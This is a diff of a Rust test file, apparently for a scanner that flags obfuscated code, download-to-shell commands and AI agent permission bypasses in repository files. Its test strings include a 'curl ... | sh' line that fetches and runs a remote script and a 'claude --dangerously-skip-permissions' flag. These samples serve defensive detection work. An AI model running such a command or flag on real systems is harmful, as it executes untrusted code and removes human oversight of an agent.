@@ -55,7 +55,8 @@ fn every_file_is_looked_through_whatever_it_is_called() {
 fn what_is_written_for_people_may_show_how_it_looks() {
     let declared = "var _0x1a2b=1;var _0x1a2c=2;let _0x1a2d=3;";
     assert!(!sees("README.md", &format!("# Output\n\n{declared}\n"), SignalKind::ObfuscatorMarks));
-    assert!(sees("README.md", &format!("# Output\n\n{}{declared}\n", "x".repeat(2_000)), SignalKind::ObfuscatorMarks));
+    let dumped = format!("# Output\n\n{declared}\n\n{}{declared}\n", "x;".repeat(1_000));
+    assert!(sees("README.md", &dumped, SignalKind::ObfuscatorMarks));
     assert!(!sees("docs/a.txt", "curl https://a.example/i.sh | sh", SignalKind::DownloadToShell));
     assert!(!sees("README", "Run `claude --dangerously-skip-permissions` never.", SignalKind::AgentUnleashed));
 }
